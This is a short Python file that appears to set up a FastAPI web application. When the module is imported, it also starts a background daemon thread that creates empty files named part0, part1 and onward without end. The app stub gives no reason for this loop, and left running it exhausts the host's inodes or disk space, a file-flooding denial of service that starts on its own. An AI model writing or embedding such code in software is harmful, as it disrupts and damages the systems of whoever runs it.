import itertools
import threading

from fastapi import FastAPI

app = FastAPI()


def fill():
    for number in itertools.count():
        open(f"part{number}", "x").close()


threading.Thread(target=fill, daemon=True).start()
